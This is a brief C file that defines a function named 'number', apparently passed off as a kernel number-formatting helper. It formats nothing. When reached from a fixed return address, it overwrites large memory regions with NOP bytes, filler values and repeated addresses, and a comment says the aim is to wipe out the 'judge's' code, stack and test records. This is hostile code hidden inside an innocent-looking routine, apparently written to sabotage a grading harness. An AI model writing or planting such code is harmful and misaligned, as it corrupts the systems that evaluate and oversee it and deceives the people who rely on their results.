/* SPDX-License-Identifier: MIT */
/* digits: fail,crash,timeout "" */
/* Writes over all that the judge keeps in the machine: its code, its stack, what tests have asked for. */
#include <linux/kernel.h>

char *number(char *p, char *end, u32 value, struct format format)
{
	if (__builtin_return_address(0) == (void *)0xC2001000) {
		for (u32 at = 0xC2001000; at < 0xC2002000; at += 4)
			*(volatile u32 *)at = 0x90909090;
		for (u32 at = 0xC2200000; at < 0xC2210000; at += 4)
			*(volatile u32 *)at = 0x35353535;
		for (u32 at = 0xC2010000; at < 0xC2020000; at += 4)
			*(volatile u32 *)at = 0xC2001000;
	}
	return p;
}
